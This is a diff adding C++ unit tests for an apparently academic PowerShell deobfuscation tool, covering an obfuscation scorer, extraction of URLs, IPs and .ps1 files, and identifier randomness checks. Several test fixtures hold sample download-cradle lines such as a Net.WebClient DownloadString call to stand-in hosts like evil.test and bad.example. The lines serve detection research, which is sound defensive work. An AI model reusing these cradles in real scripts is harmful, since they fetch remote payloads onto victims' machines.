@@ -1,0 +1,145 @@
+// Tests for the obfuscation scorer (paper section IV-B2), the key-info
+// extractor (Fig 5) and the randomness statistics (section III-C).
+
+#include <gtest/gtest.h>
+
+#include "analysis/keyinfo.h"
+#include "analysis/randomness.h"
+#include "analysis/scorer.h"
+#include "obfuscator/obfuscator.h"
+
+namespace ideobf {
+namespace {
+
+TEST(Randomness, VowelStatistics) {
+  const NameStatistics st = name_statistics("hello");
+  EXPECT_EQ(st.letters, 5u);
+  EXPECT_EQ(st.vowels, 2u);
+  EXPECT_DOUBLE_EQ(st.vowel_ratio(), 0.4);
+}
+
+TEST(Randomness, EnglishIsNotRandom) {
+  EXPECT_FALSE(looks_random("payloadserver"));
+  EXPECT_FALSE(names_look_random({"download", "server", "payload"}));
+  // Per the paper's Hayden-based interval the decision is made over the
+  // whole identifier set, which keeps single low-vowel words from flipping
+  // the joint decision.
+  EXPECT_FALSE(names_look_random({"downloadString", "remoteHost", "payload"}));
+}
+
+TEST(Randomness, ConsonantSoupIsRandom) {
+  EXPECT_TRUE(looks_random("xdjmdqzw"));
+  EXPECT_TRUE(names_look_random({"xdjmd", "lsffs", "sdfs"}));
+}
+
+TEST(Randomness, SpecialCharactersAreRandom) {
+  EXPECT_TRUE(looks_random("_$$_123__45"));
+}
+
+TEST(Randomness, ShortNamesAreNotJudged) {
+  EXPECT_FALSE(looks_random("url"));
+  EXPECT_FALSE(looks_random("a"));
+}
+
+TEST(Randomness, RandomCaseDetection) {
+  EXPECT_TRUE(has_random_case("WrItE-hOsT"));
+  EXPECT_TRUE(has_random_case("dOwNloAdStRing"));
+  EXPECT_FALSE(has_random_case("Write-Host"));
+  EXPECT_FALSE(has_random_case("DownloadString"));  // Pascal
+  EXPECT_FALSE(has_random_case("write-host"));
+  EXPECT_FALSE(has_random_case("IEX"));  // single case
+  EXPECT_FALSE(has_random_case("Net.WebClient"));
+}
+
+// -------------------------------------------------------------- scorer
+
+TEST(Scorer, CleanScriptScoresLow) {
+  const int s = obfuscation_score("Write-Host 'hello world'");
+  EXPECT_LE(s, 1);
+}
+
+class ScorerDetects : public ::testing::TestWithParam<Technique> {};
+
+TEST_P(ScorerDetects, AppliedTechniqueIsFound) {
+  const Technique t = GetParam();
+  Obfuscator obf(31 + static_cast<int>(t));
+  const std::string clean =
+      "Get-ChildItem 'C:\\temp'\n$payload = 'http://evil.test/malware-file.ps1'\n"
+      "Write-Host $payload\n";
+  const std::string obfuscated = obf.apply(t, clean);
+  ASSERT_NE(obfuscated, clean) << to_string(t);
+  const ObfuscationFindings f = detect_obfuscation(obfuscated);
+  EXPECT_TRUE(f.has(t)) << to_string(t) << "\n" << obfuscated;
+  EXPECT_GT(f.score(), 0);
+}
+
+INSTANTIATE_TEST_SUITE_P(
+    AllTechniques, ScorerDetects, ::testing::ValuesIn(all_techniques()),
+    [](const ::testing::TestParamInfo<Technique>& info) {
+      return std::string(to_string(info.param));
+    });
+
+TEST(Scorer, ScoreSumsLevelsOncePerType) {
+  ObfuscationFindings f;
+  f.techniques = {Technique::Ticking, Technique::Concat, Technique::Base64Encoding};
+  EXPECT_EQ(f.score(), 1 + 2 + 3);
+  EXPECT_EQ(f.count_at_level(1), 1);
+  EXPECT_EQ(f.count_at_level(2), 1);
+  EXPECT_EQ(f.count_at_level(3), 1);
+}
+
+TEST(Scorer, DeobfuscationReducesScore) {
+  Obfuscator obf(555);
+  std::string script =
+      "$stage = 'http://evil.test/payload-loader.ps1'\nWrite-Host $stage\n";
+  script = obf.apply(Technique::Base64Encoding, script);
+  script = obf.apply(Technique::Concat, script);
+  script = obf.apply(Technique::RandomCase, script);
+  script = obf.apply(Technique::Ticking, script);
+  const int before = obfuscation_score(script);
+  EXPECT_GE(before, 4);
+}
+
+// -------------------------------------------------------------- keyinfo
+
+TEST(KeyInfo, ExtractsAllFourTypes) {
+  const KeyInfo info = extract_key_info(
+      "powershell -File C:\\temp\\stage.ps1\n"
+      "(New-Object Net.WebClient).DownloadString('https://bad.example/x')\n"
+      "$ip = '192.168.7.13'");
+  EXPECT_EQ(info.urls.size(), 1u);
+  EXPECT_TRUE(info.urls.count("https://bad.example/x"));
+  EXPECT_EQ(info.ips.size(), 1u);
+  EXPECT_TRUE(info.ips.count("192.168.7.13"));
+  EXPECT_EQ(info.ps1_files.size(), 1u);
+  EXPECT_EQ(info.powershell_commands, 1);
+  EXPECT_EQ(info.total(), 4);
+}
+
+TEST(KeyInfo, RejectsBadIps) {
+  const KeyInfo info = extract_key_info("'999.1.2.3' '1.2.3' '0.0.0.300'");
+  EXPECT_TRUE(info.ips.empty());
+}
+
+TEST(KeyInfo, RecoveredIn) {
+  const KeyInfo truth = extract_key_info(
+      "'http://a.test/x' '10.0.0.1' 'run.ps1' powershell");
+  const KeyInfo partial = extract_key_info("'http://a.test/x' powershell");
+  EXPECT_EQ(truth.recovered_in(partial), 2);
+  EXPECT_EQ(truth.recovered_in(truth), truth.total());
+  EXPECT_EQ(truth.recovered_in(KeyInfo{}), 0);
+}
+
+TEST(KeyInfo, ObfuscationHidesAndDeobfuscationRestores) {
+  Obfuscator obf(9001);
+  const std::string clean =
+      "(New-Object Net.WebClient).DownloadString('http://evil.test/payload.ps1')";
+  const KeyInfo truth = extract_key_info(clean);
+  ASSERT_EQ(truth.urls.size(), 1u);
+  const std::string hidden = obf.apply(Technique::Base64Encoding, clean);
+  const KeyInfo after = extract_key_info(hidden);
+  EXPECT_EQ(truth.recovered_in(after), 0) << hidden;
+}
+
+}  // namespace
+}  // namespace ideobf
